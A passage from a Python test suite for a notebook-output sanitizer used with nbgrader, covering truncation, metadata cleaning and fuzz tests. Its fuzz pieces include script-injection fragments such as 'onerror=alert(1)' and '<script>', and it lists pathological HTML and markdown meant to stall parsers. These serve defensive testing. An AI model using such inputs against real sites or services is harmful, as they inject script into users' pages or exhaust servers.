    assert clean_outputs([output]) == [output]


def test_of_a_long_traceback_the_end_is_kept():
    error = {"output_type": "error", "ename": "E", "evalue": "e", "traceback": ["a" * 10**5, "end"]}
    (output,) = clean_outputs([error])
    (text,) = output.traceback
    assert text.startswith("(left out: 50104 characters)\na") and text.endswith("a\nend")
    assert clean_outputs([output]) == [output]


@pytest.mark.parametrize(
    "html",
    [
        "<b>" * 10_000, "a" * 200_000, "<p title='" + "b" * 200_000 + "'>x",
        # Read as HTML, every paragraph has all the styles before it: 120 MB of text.
        "".join(f"<p><b style='color:#{i:06x}'>" for i in range(2_900)),
    ],
)  # fmt: skip
def test_html_that_is_too_large_gives_way_to_text(html):
    (output,) = clean_outputs([shown({"text/html": html, "text/plain": "y"})])
    assert output.data == {"text/plain": "y\n(left out: text/html (too large))"}


def test_the_tags_of_a_cell_are_counted_together():
    tables = [shown({"text/html": "<b>x</b>" * 1000, "text/plain": "y"})] * 5
    shorter = shown({"text/html": "<b>x</b>"})
    kinds = ["text/html" in output.data for output in clean_outputs([*tables, shorter])]
    assert kinds == [True, True, True, False, False, False]


def test_a_cell_that_shows_too_much_says_how_much_is_left_out():
    big = base64.b64encode(base64.b64decode(PNG) + bytes(10**6)).decode()
    cleaned = clean_outputs([shown({"image/png": big})] * 5)
    assert len(cleaned) == 3
    assert cleaned[-1].data == {"text/plain": "(left out: 3 more outputs of this cell)"}
    assert clean_outputs(cleaned) == cleaned
    huge = base64.b64encode(base64.b64decode(PNG) + bytes(2 * 10**6)).decode()
    (output,) = clean_outputs([shown({"image/png": huge})])
    assert output.data == {"text/plain": "(left out: image/png (too large))"}


def test_an_error_is_not_lost_among_a_thousand_pictures():
    # nbgrader gives full points to a test cell that shows no error.
    error = {"output_type": "error", "ename": "AssertionError", "evalue": "", "traceback": []}
    result = {"output_type": "execute_result", "data": {"text/plain": "0.5"}}
    cleaned = clean_outputs([shown({"text/plain": "x"})] * 1000 + [error, result])
    kinds = [output.output_type for output in cleaned]
    assert len(cleaned) == notebooks.MOST_OUTPUTS
    assert kinds[-3:] == ["error", "execute_result", "display_data"]
    assert cleaned[-1].data == {"text/plain": "(left out: 903 more outputs of this cell)"}
    assert clean_outputs(cleaned) == cleaned


LETTERS = "abcdefghijklmnopqrstuvwxyz-"
SLOW = {
    "tags in each other": "<div>" * 5_900,
    "tags that cross": "<b><p></b>" * 1_900,
    "styles in each other": "".join(f"<p><b style='color:#{i:06x}'>" for i in range(2_900)),
    "a tag with many attributes": "<p " + " ".join(map("".join, product(LETTERS, repeat=3))) + ">",
    "quotes never closed": "<a b='" * 5_900,
    "a style with many parts": "<p style='" + "color:red;" * 9_000 + "'>x",
    "a style with brackets": "<p style='color:" + "(" * 980 + "'>x",
    "an entity of many digits": "&#" + "1" * 90_000 + ";",
    "instructions never closed": "<!" * 5_900,
    "a long space in a tag": "<p" + " " * 90_000,
    "ampersands": "&" * 99_000,
    "entities never ended": "&amp" * 24_000,
    "signs of a tag": "<" * 99_000,
    "comments never closed": "<!--" * 5_900,
    "lists in each other": "<ul>" * 5_900,
    "a sign of a formula": "$" * 99_000,
}


@pytest.mark.parametrize("name", SLOW)
def test_hostile_html_does_not_keep_the_grader_busy(name):
    with bounded_work():
        clean_html(SLOW[name])


@pytest.mark.parametrize("mark", [r"\\[", r"\\(", r"\begin{a}", "[", "*a", "> ", "  - ", "`"])
def test_hostile_markdown_does_not_keep_the_grader_busy(mark):
    with bounded_work():
        clean_outputs([shown({"text/markdown": mark * (9_900 // len(mark))})])
        clean_outputs([shown({"text/markdown": mark * (99_000 // len(mark))})])


# Notebooks


def test_a_clean_notebook_is_valid_and_keeps_what_was_written():
    notebook = hostile_notebook(HOSTILE["picture with a handler"])
    before = json.dumps(notebook)
    cleaned = clean_notebook(notebook)
    assert json.dumps(notebook) == before
    nbformat.validate(cleaned)
    assert [cell.source for cell in cleaned.cells] == [cell.source for cell in notebook.cells]
    kinds = [cell.cell_type for cell in cleaned.cells]
    assert kinds == ["markdown"] * 3 + ["raw"] * 3 + ["code"] * 2 + ["raw"]
    assert cleaned.metadata.keys() == {"kernelspec", "language_info"}
    assert all(cell.metadata.raw_mimetype == "text/plain" for cell in cleaned.cells[3:6])
    assert clean_notebook(cleaned) == cleaned


def test_ids_of_cells_are_kept_if_they_are_valid_and_unlike():
    cells = [{"cell_type": "raw", "source": "", "id": id} for id in ("a", "a", "<b>", "cell-1", 3)]
    ids = [cell.id for cell in clean_notebook({"cells": [*cells, "no cell"]}).cells]
    assert ids == ["a", "cell-1", "cell-2", "cell-3", "cell-4"]


def test_nbgrader_finds_its_cells_again():
    for cell in released_of("03_backward_pass").cells:
        metadata = clean_cell_metadata(cell.metadata)
        for key in ("nbgrader", "deletable", "editable"):
            assert metadata.get(key) == cell.metadata.get(key)


@pytest.mark.parametrize(
    "entry",
    [3, None, {}, {"grade_id": 3}, {"grade_id": "a b"}, {"grade_id": "<b>"}, {"grade_id": "a\n"}],
)
def test_an_entry_that_is_not_nbgraders_is_left_out(entry):
    assert clean_cell_metadata({"nbgrader": entry, "tags": ["x"], "deletable": "no"}) == {}


def test_a_comment_or_a_score_that_a_student_wrote_is_left_out():
    entry = {"grade_id": "a", "comment": "well done", "score": 3, "points": "3", "grade": 1}
    assert clean_cell_metadata({"nbgrader": entry, "editable": True}) == {
        "editable": True,
        "nbgrader": {"grade_id": "a", "schema_version": 3}
        | dict.fromkeys(("grade", "solution", "locked", "task"), False),
    }


# Anything at all

KINDS = ["text/plain", "text/html", "text/markdown", "text/latex", "image/png", "image/svg+xml"]
PIECES = [
    "<", ">", "<b>", "</b>", "<p style='", "color:red", "<img src=x ", "onerror=alert(1)", "'", '"',
    "<table>", "<td>", "</td>", "<li>", "&lt;", "&", "&#60;", "<!--", "-->", "<script>", "$", "\0",
    "</script>", "<svg>", "<style>", "</style>", "\\href{x}", "\\hr", "ef", "`", "![", "](", ")",
    "x", " ", "\n", "\ud800", "\x1b[31m", "\x1b[38", "m", "data:image/png;base64,", "<title>",
]  # fmt: skip
anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters(codec=None)),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=10,
)
markup = st.lists(st.sampled_from(PIECES), max_size=25).map("".join)
texts = markup | st.lists(markup, max_size=3) | anything
outputs = st.lists(
    st.fixed_dictionaries(
        {},
        optional={
            "output_type": st.sampled_from(["stream", "error", "display_data", "execute_result"])
            | anything,
            "name": st.sampled_from(["stdout", "stderr"]) | anything,
            "data": st.dictionaries(st.sampled_from(KINDS) | st.text(), texts) | anything,
            "metadata": st.dictionaries(st.sampled_from(KINDS), anything) | anything,
            "execution_count": anything,
            **dict.fromkeys(["text", "ename", "evalue", "traceback"], texts),
        },
    )
    | anything,
    max_size=5,
)


def assert_valid_and_clean_ones_come_back(outputs):
    cleaned = clean_outputs(outputs)
    notebook = new_notebook(cells=[new_code_cell(outputs=cleaned)])
    nbformat.validate(notebook)
    nbformat.writes(notebook).encode()
    for output in cleaned:
        assert not dangers_of(output.get("data", {}).get("text/html", ""))
    assert clean_outputs(cleaned) == cleaned


@settings(max_examples=25, deadline=None)
@given(outputs | anything)
def test_whatever_the_outputs_are_valid_and_clean_ones_come_back(outputs):
    assert_valid_and_clean_ones_come_back(outputs)


@pytest.mark.long
@settings(max_examples=500, deadline=None)
@given(outputs | anything)
def test_whatever_many_outputs_are_valid_and_clean_ones_come_back(outputs):
    assert_valid_and_clean_ones_come_back(outputs)


@settings(max_examples=50, deadline=None)
@given(st.fixed_dictionaries({}, optional={"cells": st.lists(anything) | anything}))
def test_whatever_the_notebook_a_valid_one_comes_back(notebook):
    nbformat.validate(clean_notebook(notebook))


def test_half_a_character_does_not_keep_a_notebook_from_being_written():
    half = "a\ud800b"
    data = dict.fromkeys(KINDS[:4], half)
    outputs = [{"output_type": "stream", "text": half}, shown(data), shown({"text/latex": half})]
    cells = [
        {"cell_type": "code", "source": half, "outputs": outputs},
        {"cell_type": "raw", "source": half, "attachments": {half: {"image/png": PNG}}},
    ]
    assert nbformat.writes(clean_notebook({"cells": cells})).encode().count(b"a?b") == 7


def test_outputs_of_any_depth_are_survived():
    deep = []
    for _ in range(100_000):
        deep = [deep]
    odd = {"output_type": deep, "data": {"text/html": deep}, "text": deep, "name": deep}
    known = [odd | {"output_type": kind} for kind in ("stream", "error", "display_data")]
    nbformat.validate(new_notebook(cells=[new_code_cell(outputs=clean_outputs([odd] * 200))]))
    nbformat.validate(new_notebook(cells=[new_code_cell(outputs=clean_outputs(known))]))
    while deep:  # taken apart bit by bit, which Python by itself may not survive
        deep = deep.pop()


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*"\x1b[]0123456789;mA", "\x1b[", "38;", "48;2;", "38;5;"])))
def test_a_page_can_be_made_of_all_text_that_was_cleaned(pieces):
    # nbconvert stumbles over a colour that is not finished.
    text = clean_text("".join(pieces))
    ansi2html(text)
    assert clean_text(text) == text
